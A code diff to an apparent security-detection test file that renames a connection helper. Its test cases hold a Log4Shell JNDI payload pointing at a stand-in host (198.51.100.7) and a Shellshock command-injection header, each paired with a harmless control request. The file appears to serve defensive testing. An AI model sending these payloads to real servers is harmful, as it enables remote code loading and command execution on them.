@@ -1,4 +1,4 @@
-import { type Proof, get, inTurn, post, proof } from '../sketch.ts'
+import { type Proof, get, onOneConnection, post, proof } from '../sketch.ts'
 
 const json = { contentType: 'application/json' }
 /** Longer than the first bytes that a session keeps of its source. */
@@ -15,8 +15,11 @@ export const lengths: readonly Proof[] = [
   ),
   proof(
     'log4shell',
-    inTurn(front, get(`/${padding}`, { headers: { 'X-Api-Version': '%24%7Bjndi:rmi://198.51.100.7}' } })),
-    inTurn(front, get(`/${padding}`, { headers: { 'X-Api-Version': '%24%7Bname}' } })),
+    onOneConnection(
+      front,
+      get(`/${padding}`, { headers: { 'X-Api-Version': '%24%7Bjndi:rmi://198.51.100.7}' } }),
+    ),
+    onOneConnection(front, get(`/${padding}`, { headers: { 'X-Api-Version': '%24%7Bname}' } })),
   ),
   proof(
     'log4shell',
@@ -25,8 +28,8 @@ export const lengths: readonly Proof[] = [
   ),
   proof(
     'shellshock',
-    inTurn(get(`/${padding}`), get('/', { headers: { 'X-Y': '() { :;}; id' } })),
-    inTurn(get(`/${padding}`), get('/', { headers: { 'X-Y': '() => {}' } })),
+    onOneConnection(get(`/${padding}`), get('/', { headers: { 'X-Y': '() { :;}; id' } })),
+    onOneConnection(get(`/${padding}`), get('/', { headers: { 'X-Y': '() => {}' } })),
   ),
   proof(
     'cve-2019-5418',
